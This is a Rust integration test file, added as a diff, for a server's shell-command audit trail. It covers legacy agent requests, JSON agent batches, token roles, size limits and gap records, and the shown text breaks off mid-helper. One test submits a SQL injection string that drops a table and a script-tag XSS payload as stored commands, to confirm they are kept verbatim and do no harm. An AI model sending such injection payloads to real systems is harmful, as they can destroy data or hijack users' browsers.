@@ -1,0 +1,1483 @@
+//! The audit trail end to end: the original Python agent's GET on the running binary, `omaudit-agent`'s JSON
+//! batches, query / CSV / live stream, the real agent binary, `omserver audit verify` against a tampered database,
+//! and the audit service in-process on SQLite, MariaDB/MySQL and PostgreSQL.
+//!
+//! The dialect test needs the servers running (admin URLs from `TEST_MYSQL_URL`, default
+//! `mysql://root@127.0.0.1:3306/test`, and `TEST_POSTGRES_URL`, default `postgres://postgres@127.0.0.1:5432/postgres`);
+//! an unreachable one fails the test. The agent test needs `target/debug/omaudit-agent`
+//! (`cargo build -p omaudit-agent`; `cargo xtask test` builds it with the workspace).
+
+mod common;
+
+use std::{
+    collections::BTreeMap,
+    future::Future,
+    io::{BufRead, BufReader, Read, Write},
+    net::{Ipv4Addr, SocketAddr, TcpStream},
+    path::PathBuf,
+    process::{Command, Stdio},
+    sync::mpsc,
+    thread,
+    time::{Duration, Instant},
+};
+
+use common::{cli, Options, Server};
+use reqwest::{blocking::Client, StatusCode};
+use serde_json::{json, Value};
+use sqlx::{Connection, SqliteConnection};
+
+// ---------------------------------------------------------------------------------------------------------------
+// Helpers: servers, tokens, the database file
+
+/// A server with no modules (audit needs none).
+fn start() -> Server {
+    Server::start_with(Options { seed: Vec::new(), ..Options::default() })
+}
+
+fn block_on<F: Future>(future: F) -> F::Output {
+    tokio::runtime::Builder::new_current_thread().enable_all().build().expect("runtime").block_on(future)
+}
+
+/// A plain connection to the server's SQLite file (the server keeps running; WAL lets both in).
+async fn open_db(server: &Server) -> SqliteConnection {
+    use std::str::FromStr;
+    let url = format!("sqlite://{}", server.dir.path().join("omserver.db").display());
+    let options = sqlx::sqlite::SqliteConnectOptions::from_str(&url).unwrap().busy_timeout(Duration::from_secs(10));
+    SqliteConnection::connect_with(&options).await.expect("open the server's SQLite file")
+}
+
+/// The integers a query returns (first column), read straight from the database file.
+fn db_ints(server: &Server, sql: &str) -> Vec<i64> {
+    block_on(async {
+        let mut conn = open_db(server).await;
+        let out = sqlx::query_scalar::<_, i64>(sql).fetch_all(&mut conn).await.unwrap_or_else(|e| panic!("{sql}: {e}"));
+        let _ = conn.close().await;
+        out
+    })
+}
+
+/// Runs one statement on the database file and returns the rows it changed.
+fn db_exec(server: &Server, sql: &str) -> u64 {
+    block_on(async {
+        let mut conn = open_db(server).await;
+        let out = sqlx::query(sql).execute(&mut conn).await.unwrap_or_else(|e| panic!("{sql}: {e}")).rows_affected();
+        let _ = conn.close().await;
+        out
+    })
+}
+
+fn row_count(server: &Server) -> i64 {
+    db_ints(server, "SELECT COUNT(*) FROM server_history")[0]
+}
+
+fn is_token(text: &str) -> bool {
+    text.len() == 68
+        && text.starts_with("oms_")
+        && text[4..].bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
+}
+
+/// `omserver hosts token <host>`: one line, the agent token.
+fn agent_token(server: &Server, host: &str) -> String {
+    let out = cli(server, &["hosts", "token", host]);
+    assert!(out.status.success(), "hosts token {host}: {out:?}");
+    let token = out.stdout.strip_suffix('\n').unwrap_or_else(|| panic!("no newline: {:?}", out.stdout));
+    assert!(is_token(token) && !token.contains('\n'), "not one token line: {:?}", out.stdout);
+    token.to_owned()
+}
+
+fn viewer_token(server: &Server) -> String {
+    let out = cli(server, &["token", "create", "--role", "viewer", "--name", "auditor"]);
+    assert!(out.status.success(), "token create: {out:?}");
+    let token = out.stdout.trim_end().to_owned();
+    assert!(is_token(&token), "{:?}", out.stdout);
+    token
+}
+
+/// Adds a host through the API (which also tells the audit service the inventory changed); returns its id.
+fn add_host(server: &Server, name: &str, ip: &str) -> i64 {
+    let (status, row) = server.post("/api/hosts", &json!({ "name": name, "ip": ip }));
+    assert_eq!(status, StatusCode::CREATED, "{row}");
+    row["id"].as_i64().unwrap()
+}
+
+fn host_id(server: &Server, name: &str) -> i64 {
+    let (status, hosts) = server.get("/api/hosts");
+    assert_eq!(status, StatusCode::OK, "{hosts}");
+    hosts.as_array().unwrap().iter().find(|h| h["name"] == name).unwrap_or_else(|| panic!("no {name}"))["id"]
+        .as_i64()
+        .unwrap()
+}
+
+fn get_as(server: &Server, token: &str, path: &str) -> (StatusCode, Value) {
+    server.send(server.client.get(format!("{}{path}", server.base)).bearer_auth(token))
+}
+
+fn post_batch(server: &Server, token: &str, body: &Value) -> (StatusCode, Value) {
+    server.send(server.client.post(format!("{}/api/audit/events", server.base)).bearer_auth(token).json(body))
+}
+
+/// `GET /api/audit/events?<query>` as `token`; must be 200.
+fn list(server: &Server, token: &str, query: &str) -> Value {
+    let (status, body) = get_as(server, token, &format!("/api/audit/events?{query}"));
+    assert_eq!(status, StatusCode::OK, "{query}: {body}");
+    body
+}
+
+/// Every stored event, oldest first.
+fn all_events(server: &Server) -> Vec<Value> {
+    let body = list(server, &server.token, "after=0&limit=1000");
+    body["events"].as_array().unwrap().clone()
+}
+
+fn commands(events: &Value) -> Vec<String> {
+    events["events"].as_array().unwrap().iter().map(|e| e["command"].as_str().unwrap().to_owned()).collect()
+}
+
+fn ids(events: &Value) -> Vec<i64> {
+    events["events"].as_array().unwrap().iter().map(|e| e["id"].as_i64().unwrap()).collect()
+}
+
+/// One agent event as `omaudit-agent` sends it.
+fn ev(stream: &str, seq: i64, user: &str, time: &str, command: &str) -> Value {
+    json!({ "stream": stream, "seq": seq, "history_id": seq + 100, "user": user, "login_user": "", "uid": 0,
+            "tty": "/dev/pts/1", "ip": "127.0.0.1", "time": time, "command": command })
+}
+
+fn ack(stored: usize, duplicates: usize) -> Value {
+    json!({ "stored": stored, "duplicates": duplicates, "rejected": [] })
+}
+
+fn now_ms() -> i64 {
+    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis() as i64
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// The original agent, byte for byte
+
+/// Python 2's `urllib.quote(s)`: letters, digits, `_.-` and `/` kept, every other byte `%XX` (upper case).
+fn py2_quote(text: &str) -> String {
+    let mut out = String::new();
+    for b in text.bytes() {
+        if b.is_ascii_alphanumeric() || b"_.-/".contains(&b) {
+            out.push(b as char);
+        } else {
+            out.push_str(&format!("%{b:02X}"));
+        }
+    }
+    out
+}
+
+/// The URL OMAudit_agent.py built from its argv (`$(history 1)` unquoted: number, user, date, time, words…):
+/// id, IP and user raw, the date and time joined by `urllib.quote(" ")`, the words joined by spaces, stripped and
+/// quoted.
+fn python_agent_url(history: &str, ip: &str) -> String {
+    let argv: Vec<&str> = history.split_whitespace().collect();
+    assert!(argv.len() >= 5, "the agent logs 'History not configured' and sends nothing");
+    let mut command = String::new();
+    for word in &argv[4..] {
+        command.push_str(word);
+        command.push(' ');
+    }
+    format!(
+        "/omaudit/omaudit_pull/?history_id={}&history_ip={ip}&history_user={}&history_datetime={}{}{}\
+         &history_command={}",
+        argv[0],
+        argv[1],
+        argv[2],
+        py2_quote(" "),
+        argv[3],
+        py2_quote(command.trim())
+    )
+}
+
+/// What Python 2.7's `httplib.HTTPConnection(host, port).request("GET", url)` writes: the request line, `Host`
+/// (with the port, as it is not 80) and `Accept-Encoding: identity`; nothing else, no body.
+fn httplib_get(server: &Server, url: &str) -> Vec<u8> {
+    let authority = server.base.strip_prefix("http://").unwrap();
+    format!("GET {url} HTTP/1.1\r\nHost: {authority}\r\nAccept-Encoding: identity\r\n\r\n").into_bytes()
+}
+
+fn server_addr(server: &Server) -> SocketAddr {
+    server.base.strip_prefix("http://").unwrap().parse().unwrap()
+}
+
+/// A TCP connection to the server from the local address `from` (any of 127/8 works on Linux).
+fn connect_from(server: &Server, from: Ipv4Addr) -> TcpStream {
+    let target = server_addr(server);
+    let stream = block_on(async {
+        let socket = tokio::net::TcpSocket::new_v4()?;
+        socket.bind(SocketAddr::new(from.into(), 0))?;
+        let stream = socket.connect(target).await?;
+        stream.into_std()
+    })
+    .unwrap_or_else(|e| panic!("connect from {from}: {e}"));
+    stream.set_nonblocking(false).unwrap();
+    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    stream
+}
+
+/// Writes `request` and reads one HTTP/1.1 response (by Content-Length, as httplib does): (status, body).
+fn exchange(mut stream: TcpStream, request: &[u8]) -> (u16, String) {
+    // A server may answer (and close) before a huge request is written: the answer is what counts.
+    let _ = stream.write_all(request);
+    let mut raw = Vec::new();
+    let mut buf = [0u8; 8192];
+    let head_end = loop {
+        if let Some(i) = raw.windows(4).position(|w| w == b"\r\n\r\n") {
+            break i + 4;
+        }
+        match stream.read(&mut buf) {
+            Ok(0) => panic!("connection closed before a full response: {:?}", String::from_utf8_lossy(&raw)),
+            Ok(n) => raw.extend_from_slice(&buf[..n]),
+            Err(e) => panic!("reading the response: {e} (got {:?})", String::from_utf8_lossy(&raw)),
+        }
+    };
+    let head = String::from_utf8(raw[..head_end].to_vec()).expect("ASCII head");
+    let status: u16 = head.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or_else(|| panic!("{head}"));
+    let length = head
+        .lines()
+        .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length:").map(|v| v.trim().parse::<usize>()))
+        .map(|v| v.expect("numeric Content-Length"))
+        .unwrap_or(0);
+    let mut body = raw[head_end..].to_vec();
+    while body.len() < length {
+        let n = stream.read(&mut buf).expect("read the body");
+        assert!(n > 0, "body cut short");
+        body.extend_from_slice(&buf[..n]);
+    }
+    (status, String::from_utf8(body).expect("UTF-8 body"))
+}
+
+/// The original agent's request for `url`, sent from `from`.
+fn legacy_from(server: &Server, from: Ipv4Addr, url: &str) -> (u16, String) {
+    exchange(connect_from(server, from), &httplib_get(server, url))
+}
+
+fn legacy(server: &Server, url: &str) -> (u16, String) {
+    legacy_from(server, Ipv4Addr::LOCALHOST, url)
+}
+
+/// A legacy query with each of the five parameters given (values already encoded).
+fn legacy_url(id: &str, ip: &str, user: &str, datetime: &str, command: &str) -> String {
+    format!(
+        "/omaudit/omaudit_pull/?history_id={id}&history_ip={ip}&history_user={user}&history_datetime={datetime}\
+         &history_command={command}"
+    )
+}
+
+const LOCAL: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 1);
+const SECOND: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
+
+// ---------------------------------------------------------------------------------------------------------------
+// 1. Legacy ingest
+
+#[test]
+fn the_original_agents_request_is_stored_once_and_answered_ok() {
+    let server = start();
+    let url = python_agent_url("173 root 2014-06-07 22:05:56 ls -l /tmp", "127.0.0.1");
+    let request = httplib_get(&server, &url);
+    let authority = server.base.strip_prefix("http://").unwrap();
+    assert_eq!(
+        String::from_utf8(request.clone()).unwrap(),
+        format!(
+            "GET /omaudit/omaudit_pull/?history_id=173&history_ip=127.0.0.1&history_user=root\
+             &history_datetime=2014-06-07%2022:05:56&history_command=ls%20-l%20/tmp HTTP/1.1\r\n\
+             Host: {authority}\r\nAccept-Encoding: identity\r\n\r\n"
+        ),
+        "the bytes the Python agent wrote"
+    );
+    let before = now_ms();
+    assert_eq!(exchange(connect_from(&server, LOCAL), &request), (200, "OK".to_owned()));
+    let after = now_ms();
+
+    let (status, body) = get_as(&server, &viewer_token(&server), "/api/audit/events");
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let events = body["events"].as_array().unwrap();
+    assert_eq!(events.len(), 1, "{body}");
+    let received = events[0]["received_at"].as_i64().unwrap();
+    assert!((before..=after).contains(&received), "received_at {received} not in {before}..={after}");
+    assert_eq!(
+        body,
+        json!({ "events": [{ "id": 1, "host": "localhost", "ip": "127.0.0.1", "history_id": 173, "user": "root",
+                              "login_user": null, "tty": null, "datetime": "2014-06-07 22:05:56",
+                              "received_at": received, "command": "ls -l /tmp", "source": "legacy" }],
+                "next": null })
+    );
+
+    // An idle prompt re-sends the same history line: OK again, still one row.
+    assert_eq!(exchange(connect_from(&server, LOCAL), &request), (200, "OK".to_owned()));
+    assert_eq!(row_count(&server), 1);
+    assert_eq!(all_events(&server).len(), 1);
+
+    // Characters urllib.quote escapes (including `+`, `%` and `~`) come back as typed.
+    let url =
+        python_agent_url("174 root 2014-06-07 22:06:01 grep -E 'a+b|c' /var/log/*.log && echo \"~ 100%\"", "127.0.0.1");
+    assert!(
+        url.ends_with("grep%20-E%20%27a%2Bb%7Cc%27%20/var/log/%2A.log%20%26%26%20echo%20%22%7E%20100%25%22"),
+        "{url}"
+    );
+    assert_eq!(legacy(&server, &url), (200, "OK".to_owned()));
+    let events = all_events(&server);
+    assert_eq!(events.len(), 2);
+    assert_eq!(events[1]["command"], "grep -E 'a+b|c' /var/log/*.log && echo \"~ 100%\"");
+    assert_eq!(events[1]["history_id"], 174);
+}
+
+#[test]
+fn bad_legacy_requests_are_refused_with_a_one_line_reason_and_store_nothing() {
+    let server = start();
+    let good = [
+        ("history_id", "5"),
+        ("history_ip", "127.0.0.1"),
+        ("history_user", "root"),
+        ("history_datetime", "2014-06-07%2022:05:56"),
+        ("history_command", "ls"),
+    ];
+    let query = |params: &[(&str, &str)]| {
+        let pairs: Vec<String> = params.iter().map(|(k, v)| format!("{k}={v}")).collect();
+        format!("/omaudit/omaudit_pull/?{}", pairs.join("&"))
+    };
+    for (i, (name, _)) in good.iter().enumerate() {
+        let missing: Vec<(&str, &str)> = good.iter().enumerate().filter(|(j, _)| *j != i).map(|(_, p)| *p).collect();
+        let empty: Vec<(&str, &str)> =
+            good.iter().enumerate().map(|(j, p)| if j == i { (p.0, "") } else { *p }).collect();
+        for params in [missing, empty] {
+            let url = query(&params);
+            assert_eq!(legacy(&server, &url), (400, format!("{name}: is missing or empty\n")), "{url}");
+        }
+    }
+    let cases = [
+        (
+            legacy_url("5", "127.0.0.1", "root", "2014-13-01%2000:00:00", "ls"),
+            "history_datetime: \"2014-13-01 00:00:00\" is not a date and time like 2014-06-07 22:05:56\n",
+        ),
+        (
+            legacy_url("5", "127.0.0.1", "root", "2014-06-07T22:05:56", "ls"),
+            "history_datetime: \"2014-06-07T22:05:56\" is not a date and time like 2014-06-07 22:05:56\n",
+        ),
+        (legacy_url("5a", "127.0.0.1", "root", "2014-06-07%2022:05:56", "ls"), "history_id: must be a whole number\n"),
+        (legacy_url("-5", "127.0.0.1", "root", "2014-06-07%2022:05:56", "ls"), "history_id: must be a whole number\n"),
+        (
+            legacy_url("5", "127.0.0.1", "root", "2014-06-07%2022:05:56", "ls%ff"),
+            "history_command: is not valid UTF-8\n",
+        ),
+        (legacy_url("5", "127.0.0.1", "r%ffoot", "2014-06-07%2022:05:56", "ls"), "history_user: is not valid UTF-8\n"),
+        (
+            legacy_url("5", "127.0.0.1", "root", "2014-06-07%2022:05:56", "ls%zz"),
+            "history_command: bad percent-escape\n",
+        ),
+        (
+            legacy_url("5", "localhost", "root", "2014-06-07%2022:05:56", "ls"),
+            "history_ip: \"localhost\" is not an IP address\n",
+        ),
+    ];
+    for (url, reason) in &cases {
+        assert_eq!(legacy(&server, url), (400, (*reason).to_owned()), "{url}");
+    }
+    assert_eq!(row_count(&server), 0);
+    assert_eq!(all_events(&server), Vec::<Value>::new());
+}
+
+#[test]
+fn legacy_requests_must_come_from_the_registered_address_they_claim() {
+    let server = start();
+    let url = |ip: &str| legacy_url("9", ip, "root", "2014-06-07%2022:05:56", "uptime");
+    // Not yet in the inventory.
+    assert_eq!(
+        legacy_from(&server, SECOND, &url("127.0.0.2")),
+        (403, "history_ip 127.0.0.2 is not a registered host\n".to_owned())
+    );
+    add_host(&server, "web2", "127.0.0.2");
+    // Registered, but claimed by another machine.
+    assert_eq!(
+        legacy_from(&server, LOCAL, &url("127.0.0.2")),
+        (403, "peer address 127.0.0.1 is not history_ip 127.0.0.2\n".to_owned())
+    );
+    assert_eq!(
+        legacy_from(&server, SECOND, &url("127.0.0.1")),
+        (403, "peer address 127.0.0.2 is not history_ip 127.0.0.1\n".to_owned())
+    );
+    assert_eq!(row_count(&server), 0);
+    // From the machine itself.
+    assert_eq!(legacy_from(&server, SECOND, &url("127.0.0.2")), (200, "OK".to_owned()));
+    // An address nobody registered, sending as itself.
+    let nine = Ipv4Addr::new(127, 0, 0, 9);
+    assert_eq!(
+        legacy_from(&server, nine, &url("127.0.0.9")),
+        (403, "history_ip 127.0.0.9 is not a registered host\n".to_owned())
+    );
+    let events = all_events(&server);
+    assert_eq!(events.len(), 1);
+    assert_eq!(
+        (&events[0]["host"], &events[0]["ip"], &events[0]["command"]),
+        (&json!("web2"), &json!("127.0.0.2"), &json!("uptime"))
+    );
+}
+
+/// `echo ` and then spaces and `é`s (two bytes), padded with `z`: exactly `len` bytes.
+fn filled(len: usize) -> String {
+    let mut text = String::from("echo ");
+    while text.len() + 2 <= len {
+        text.push(if text.len() % 11 == 0 { ' ' } else { 'é' });
+    }
+    while text.len() < len {
+        text.push('z');
+    }
+    text
+}
+
+/// The longest request target hyper accepts (the `http` crate's `Uri` limit, `u16::MAX - 1`); longer is 414.
+const MAX_URI: usize = 65534;
+
+#[test]
+fn legacy_commands_are_kept_whole_up_to_the_limits_and_stored_verbatim() {
+    let server = start();
+    let url = |id: u32, command: &str| {
+        legacy_url(&id.to_string(), "127.0.0.1", "root", "2014-06-07%2022:05:56", &py2_quote(command))
+    };
+    let send = |id: u32, command: &str| legacy(&server, &url(id, command));
+    // A megabyte: refused before the handler (the request target is too long), nothing stored.
+    let (status, _) = send(1, &"x".repeat(1 << 20));
+    assert!((400..500).contains(&status), "1 MB command answered {status}");
+    // So is a command of exactly max_command_bytes: percent-encoded it is far over the URI limit. The original
+    // agent cannot deliver a command that long at all (see the report); the agent path can (below).
+    let exact = filled(65536);
+    assert_eq!(exact.len(), 65536);
+    assert_eq!(send(2, &exact).0, 414);
+    assert_eq!(row_count(&server), 0);
+    // The longest command the legacy path can carry: a URI of exactly MAX_URI bytes, stored whole.
+    let room = MAX_URI - url(3, "").len();
+    let longest = "/x-y_z.".repeat(room / 7 + 1)[..room].to_owned();
+    assert_eq!(url(3, &longest).len(), MAX_URI);
+    assert_eq!(send(3, &format!("{longest}w")).0, 414);
+    assert_eq!(send(3, &longest), (200, "OK".to_owned()));
+
+    let sql = "'; DROP TABLE server_history; --";
+    let html = "<script>alert(1)</script>";
+    assert_eq!(send(4, sql), (200, "OK".to_owned()));
+    assert_eq!(send(5, html), (200, "OK".to_owned()));
+
+    // Exactly max_command_bytes through the agent path, multi-byte characters and spaces included: stored whole.
+    let token = agent_token(&server, "localhost");
+    let events = json!({ "events": [ev("big", 1, "root", "2026-11-24 10:00:00", &exact),
+                                     ev("big", 2, "root", "2026-11-24 10:00:00", &filled(65537))] });
+    assert_eq!(
+        post_batch(&server, &token, &events),
+        (
+            StatusCode::OK,
+            json!({ "stored": 1, "duplicates": 0, "rejected": [
+                { "stream": "big", "seq": 2, "reason": "command: is 65537 bytes, more than the 65536 allowed" }
+            ] })
+        )
+    );
+
+    let events = all_events(&server);
+    assert_eq!(events.len(), 4);
+    assert!(events[0]["command"] == longest.as_str(), "the longest legacy command came back changed");
+    assert_eq!(events[1]["command"], json!(sql));
+    assert_eq!(events[2]["command"], json!(html));
+    let stored = events[3]["command"].as_str().unwrap();
+    assert_eq!(stored.len(), 65536);
+    assert!(stored == exact, "the 64 KiB command came back changed");
+    // The raw JSON carries them as plain strings too.
+    let raw = server
+        .client
+        .get(format!("{}/api/audit/events?q=script", server.base))
+        .bearer_auth(&server.token)
+        .send()
+        .unwrap();
+    assert_eq!(raw.headers()["content-type"], "application/json");
+    let text = raw.text().unwrap();
+    assert!(text.contains("\"command\":\"<script>alert(1)</script>\""), "{text}");
+    // The table is intact, with exactly these rows.
+    assert_eq!(db_ints(&server, "SELECT history_id FROM server_history ORDER BY id"), vec![3, 4, 5, 101]);
+    assert_eq!(
+        db_ints(&server, "SELECT length(CAST(history_command AS BLOB)) FROM server_history ORDER BY id"),
+        vec![room as i64, 32, 25, 65536]
+    );
+}
+
+#[test]
+fn the_legacy_path_refuses_commands_over_max_command_bytes() {
+    let server = Server::start_with(Options {
+        seed: Vec::new(),
+        extra_config: "[audit]\nmax_command_bytes = 1000".into(),
+        ..Options::default()
+    });
+    let send = |id: u32, command: &str| {
+        legacy(&server, &legacy_url(&id.to_string(), "127.0.0.1", "root", "2014-06-07%2022:05:56", &py2_quote(command)))
+    };
+    assert_eq!(send(1, &filled(1001)), (400, "history_command: is 1001 bytes, more than the 1000 allowed\n".into()));
+    assert_eq!(row_count(&server), 0);
+    let exact = filled(1000);
+    assert_eq!(send(2, &exact), (200, "OK".into()));
+    let events = all_events(&server);
+    assert_eq!(events.len(), 1);
+    assert!(events[0]["command"] == exact.as_str());
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// 2. Agent batches
+
+#[test]
+fn agent_batches_are_stored_once_with_exact_counts() {
+    let server = start();
+    let token = agent_token(&server, "localhost");
+    let t = "2026-11-24 10:00:0";
+    let batch = json!({ "events": [
+        ev("s1", 1, "root", &format!("{t}1"), "ls"),
+        ev("s1", 2, "root", &format!("{t}2"), "pwd"),
+        ev("s1", 3, "alice", &format!("{t}3"), "id"),
+    ] });
+    assert_eq!(post_batch(&server, &token, &batch), (StatusCode::OK, ack(3, 0)));
+    assert_eq!(post_batch(&server, &token, &batch), (StatusCode::OK, ack(0, 3)));
+    assert_eq!(row_count(&server), 3);
+
+    // One valid event among invalid ones: the valid one is stored, each other is rejected with its reason.
+    let spaced = ev("my stream", 7, "root", "2026-11-24 10:00:07", "ls");
+    let mixed = json!({ "events": [
+        ev("s1", 4, "root", "2026-11-24 10:00:04", "uname -a"),
+        ev("s1", 5, "root", "2014-13-01 00:00:00", "ls"),
+        ev("s1", 6, "root", "2026-11-24 10:00:06", "   "),
+        ev("s1", 0, "root", "2026-11-24 10:00:00", "ls"),
+        spaced,
+        ev("s1", 3, "alice", "2026-11-24 10:00:03", "id"),
+    ] });
+    assert_eq!(
+        post_batch(&server, &token, &mixed),
+        (
+            StatusCode::OK,
+            json!({ "stored": 1, "duplicates": 1, "rejected": [
+                { "stream": "s1", "seq": 5,
+                  "reason": "time: \"2014-13-01 00:00:00\" is not a date and time like 2014-06-07 22:05:56" },
+                { "stream": "s1", "seq": 6, "reason": "command: is empty" },
+                { "stream": "s1", "seq": 0, "reason": "seq: must be 1 or more" },
+                { "stream": "my stream", "seq": 7, "reason": "stream: must be 1-64 letters, digits or '-'" },
+            ] })
+        )
+    );
+    assert_eq!(row_count(&server), 4);
+
+    let events = all_events(&server);
+    let got: Vec<(String, String, String, String)> = events
+        .iter()
+        .map(|e| {
+            let s = |k: &str| e[k].as_str().unwrap().to_owned();
+            (s("user"), s("datetime"), s("command"), s("tty"))
+        })
+        .collect();
+    let want = |u: &str, d: &str, c: &str| (u.to_owned(), d.to_owned(), c.to_owned(), "/dev/pts/1".to_owned());
+    assert_eq!(
+        got,
+        vec![
+            want("root", "2026-11-24 10:00:01", "ls"),
+            want("root", "2026-11-24 10:00:02", "pwd"),
+            want("alice", "2026-11-24 10:00:03", "id"),
+            want("root", "2026-11-24 10:00:04", "uname -a"),
+        ]
+    );
+    for e in &events {
+        assert_eq!((&e["source"], &e["login_user"], &e["host"]), (&json!("agent"), &Value::Null, &json!("localhost")));
+    }
+    let history_ids: Vec<i64> = events.iter().map(|e| e["history_id"].as_i64().unwrap()).collect();
+    assert_eq!(history_ids, [101, 102, 103, 104]);
+}
+
+#[test]
+fn reported_gaps_are_recorded_once() {
+    let server = start();
+    let token = agent_token(&server, "localhost");
+    let gap = json!({ "gaps": [{ "stream": "s1", "from_seq": 10, "to_seq": 20, "reason": "spool full" }] });
+    assert_eq!(post_batch(&server, &token, &gap), (StatusCode::OK, ack(0, 0)));
+    assert_eq!(post_batch(&server, &token, &gap), (StatusCode::OK, ack(0, 0)));
+    let with_event = json!({ "events": [ev("s1", 21, "root", "2026-11-24 10:00:00", "ls")],
+                             "gaps": [{ "stream": "s1", "from_seq": 10, "to_seq": 20, "reason": "spool full" },
+                                      { "stream": "s1", "from_seq": 22, "to_seq": 22, "reason": "event too large" }] });
+    assert_eq!(post_batch(&server, &token, &with_event), (StatusCode::OK, ack(1, 0)));
+    let localhost = host_id(&server, "localhost");
+    let gaps = block_on(async {
+        let mut conn = open_db(&server).await;
+        sqlx::query_as::<_, (i64, String, i64, i64, String)>(
+            "SELECT host_id, stream, from_seq, to_seq, reason FROM audit_gaps ORDER BY id",
+        )
+        .fetch_all(&mut conn)
+        .await
+        .unwrap()
+    });
+    assert_eq!(
+        gaps,
+        vec![
+            (localhost, "s1".to_owned(), 10, 20, "spool full".to_owned()),
+            (localhost, "s1".to_owned(), 22, 22, "event too large".to_owned()),
+        ]
+    );
+    // A backwards range is refused as a whole.
+    let bad = json!({ "gaps": [{ "stream": "s1", "from_seq": 5, "to_seq": 4, "reason": "x" }] });
+    assert_eq!(
+        post_batch(&server, &token, &bad),
+        (StatusCode::BAD_REQUEST, json!({ "error": "gaps: bad range 5..4", "field": "gaps" }))
+    );
+    assert_eq!(db_ints(&server, "SELECT COUNT(*) FROM audit_gaps"), vec![2]);
+}
+
+#[test]
+fn only_agent_tokens_post_events_and_only_people_read_them() {
+    let server = start();
+    let token = agent_token(&server, "localhost");
+    let viewer = viewer_token(&server);
+    let batch = json!({ "events": [ev("s1", 1, "root", "2026-11-24 10:00:00", "ls")] });
+    let forged = format!("oms_{}", (0..64).map(|i| b"0123456789abcdef"[(i * 7 + 3) % 16] as char).collect::<String>());
+    assert_eq!(
+        post_batch(&server, &forged, &batch),
+        (StatusCode::UNAUTHORIZED, json!({ "error": "missing or invalid bearer token" }))
+    );
+    let needs_agent = (StatusCode::FORBIDDEN, json!({ "error": "this needs the agent role" }));
+    assert_eq!(post_batch(&server, &viewer, &batch), needs_agent);
+    assert_eq!(post_batch(&server, &server.token, &batch), needs_agent);
+    assert_eq!(
+        get_as(&server, &token, "/api/audit/events"),
+        (StatusCode::FORBIDDEN, json!({ "error": "this needs the viewer role" }))
+    );
+    for path in ["/api/audit/events.csv", "/api/audit/stream", "/api/audit/verify"] {
+        assert_eq!(get_as(&server, &token, path).0, StatusCode::FORBIDDEN, "{path}");
+    }
+    assert_eq!(row_count(&server), 0);
+    // The same batch with the right token goes in.
+    assert_eq!(post_batch(&server, &token, &batch), (StatusCode::OK, ack(1, 0)));
+}
+
+#[test]
+fn malformed_oversized_and_too_long_batches_are_refused() {
+    let server = start();
+    let token = agent_token(&server, "localhost");
+    let raw = |body: String| {
+        let request = server
+            .client
+            .post(format!("{}/api/audit/events", server.base))
+            .bearer_auth(&token)
+            .header("content-type", "application/json")
+            .body(body);
+        server.send(request)
+    };
+    let (status, body) = raw("{\"events\": [".to_owned());
+    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
+    assert!(body["error"].as_str().unwrap().contains("EOF"), "{body}");
+    let (status, body) = raw("{\"events\": [], \"extra\": 1}".to_owned());
+    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
+    assert!(body["error"].as_str().unwrap().contains("unknown field `extra`"), "{body}");
+
+    let many: Vec<Value> = (1..=5001).map(|s| ev("s1", s, "root", "2026-11-24 10:00:00", "ls")).collect();
+    assert_eq!(
+        post_batch(&server, &token, &json!({ "events": many })),
+        (StatusCode::BAD_REQUEST, json!({ "error": "5001 events in one batch; at most 5000", "field": "events" }))
+    );
+    // Exactly the limit goes in.
+    let most: Vec<Value> = (1..=5000).map(|s| ev("s1", s, "root", "2026-11-24 10:00:00", &format!("c{s}"))).collect();
+    assert_eq!(post_batch(&server, &token, &json!({ "events": most })), (StatusCode::OK, ack(5000, 0)));
+
+    // Over 8 MiB: 413, which tells the agent to halve its batch.
+    let huge = json!({ "events": [ev("s2", 1, "root", "2026-11-24 10:00:00", &"x".repeat(8 * 1024 * 1024 + 1))] });
+    let (status, body) = post_batch(&server, &token, &huge);
+    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{body}");
+    // A command over max_command_bytes inside a body under 8 MiB: rejected for good, with its reason.
+    let long = json!({ "events": [ev("s2", 2, "root", "2026-11-24 10:00:00", &"y".repeat(1 << 20))] });
+    assert_eq!(
+        post_batch(&server, &token, &long),
+        (
+            StatusCode::OK,
+            json!({ "stored": 0, "duplicates": 0, "rejected": [
+                { "stream": "s2", "seq": 2, "reason": "command: is 1048576 bytes, more than the 65536 allowed" }
+            ] })
+        )
+    );
+    assert_eq!(row_count(&server), 5000);
+}
+
+#[test]
+fn events_land_on_the_tokens_host_whatever_address_they_claim() {
+    let server = start();
+    add_host(&server, "web2", "127.0.0.2");
+    let local = agent_token(&server, "localhost");
+    let web2 = agent_token(&server, "web2");
+    let mut claims_web2 = ev("s1", 1, "root", "2026-11-24 10:00:00", "from localhost");
+    claims_web2["ip"] = json!("127.0.0.2");
+    let mut claims_local = ev("s1", 1, "root", "2026-11-24 10:00:00", "from web2");
+    claims_local["ip"] = json!("127.0.0.1");
+    assert_eq!(post_batch(&server, &local, &json!({ "events": [claims_web2] })), (StatusCode::OK, ack(1, 0)));
+    // The same stream and seq from another host is another event.
+    assert_eq!(post_batch(&server, &web2, &json!({ "events": [claims_local] })), (StatusCode::OK, ack(1, 0)));
+    let events = all_events(&server);
+    let got: Vec<(&Value, &Value, &Value)> = events.iter().map(|e| (&e["host"], &e["ip"], &e["command"])).collect();
+    assert_eq!(
+        got,
+        vec![
+            (&json!("localhost"), &json!("127.0.0.1"), &json!("from localhost")),
+            (&json!("web2"), &json!("127.0.0.2"), &json!("from web2")),
+        ]
+    );
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// 3. Query, CSV, live stream
+
+/// Two hosts with a known set of events; returns (localhost token, web2 token).
+fn populate(server: &Server) -> (String, String) {
+    add_host(server, "web2", "127.0.0.2");
+    let local = agent_token(server, "localhost");
+    let web2 = agent_token(server, "web2");
+    let mut as_carol = ev("a", 2, "root", "2026-11-24 00:00:00", "grep 100% file_name");
